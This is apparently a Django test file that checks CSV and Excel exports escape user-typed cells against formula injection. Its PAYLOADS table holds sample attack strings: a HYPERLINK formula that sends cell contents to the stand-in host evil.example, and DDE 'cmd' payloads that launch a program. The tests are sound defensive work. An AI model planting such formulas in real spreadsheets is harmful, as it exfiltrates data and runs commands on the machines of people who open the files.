"""Every cell a user typed is text in every export (OWASP CSV injection), for each trigger character."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.spreadsheet import FORMULA_TRIGGERS, csv_cell, csv_row
from onboarding.models import ImportJob, ImportStatus
from rollups import services
from rollups.models import Stage

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_csv_cell_prefixes_every_trigger():
    for char in FORMULA_TRIGGERS:
        assert csv_cell(f"{char}1+1") == f"'{char}1+1"
    assert csv_cell("Chi bộ = 1") == "Chi bộ = 1"
    assert csv_row([-5, 3.5, None, "x"]) == [-5, 3.5, None, "x"]  # numbers stay numbers


def _all_cells(workbook):
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                yield ws, cell


@pytest.mark.parametrize("char", list(PAYLOADS))
def test_dashboard_excel_writes_typed_names_as_text(client, populated, char):
    tree = populated.tree
    name = PAYLOADS[char]
    tree.commune.name = name
    tree.commune.save(update_fields=["name"])
    tree.province.name = name + " (tỉnh)"
    tree.province.save(update_fields=["name"])
    services.rollups_rebuild()
    client.force_login(populated.cast.province.user)
    url = reverse("rollups:xlsx", args=[tree.province.pk])
    resp = client.get(url, {"year": populated.years.this, "stage": Stage.PROPOSED})
    assert resp.status_code == 200
    workbook = load_workbook(io.BytesIO(resp.content))
    hits = [(ws.title, cell) for ws, cell in _all_cells(workbook) if cell.value in (name, name + " (tỉnh)")]
    # The child row in the members and organisations sheets, the indicators header, the titles.
    assert len(hits) >= 5
    for _title, cell in hits:
        assert cell.data_type == "s", (cell.coordinate, cell.data_type)
        assert cell.quotePrefix
    assert not [c for _ws, c in _all_cells(workbook) if c.data_type == "f"]


def _job_with_report(cast, char) -> ImportJob:
    name = PAYLOADS[char]
    return ImportJob.objects.create(
        created_by=cast.committee.user,
        file_name="dv.csv",
        content=b"",
        status=ImportStatus.VALIDATED,
        report={
            "errors": [{"sheet": name, "line": 3, "column": name, "message": name}],
            "rows": [[name, 4, "create", name, name]],
        },
    )


@pytest.mark.parametrize("char", list(PAYLOADS))
def test_import_report_csv_quotes_typed_cells(client, cast, char):
    job = _job_with_report(cast, char)
    client.force_login(cast.committee.user)
    resp = client.get(reverse("onboarding:report_csv", args=[job.pk]))
    assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row if cell]
    typed = [cell for cell in cells if PAYLOADS[char] in cell]
    assert len(typed) == 6
    assert all(cell == "'" + PAYLOADS[char] for cell in typed)
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]


def test_import_template_has_no_formula_cell(client, cast):
    client.force_login(cast.committee.user)
    resp = client.get(reverse("onboarding:template"))
    workbook = load_workbook(io.BytesIO(resp.content))
    cells = [c for _ws, c in _all_cells(workbook) if c.value is not None]
    assert cells and not [c for c in cells if c.data_type == "f"]
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_TRIGGERS))


@pytest.mark.parametrize("char", list(PAYLOADS))
def test_xlsx_helper_keeps_each_trigger_as_text(char):
    from openpyxl import Workbook

    from core.spreadsheet import xlsx_append

    wb = Workbook()
    xlsx_append(wb.active, [PAYLOADS[char], 5, -3])
    buf = io.BytesIO()
    wb.save(buf)
    ws = load_workbook(io.BytesIO(buf.getvalue())).active
    assert ws["A1"].value == PAYLOADS[char] and ws["A1"].data_type == "s" and ws["A1"].quotePrefix
    assert ws["B1"].value == 5 and ws["C1"].value == -3 and ws["B1"].data_type == "n"
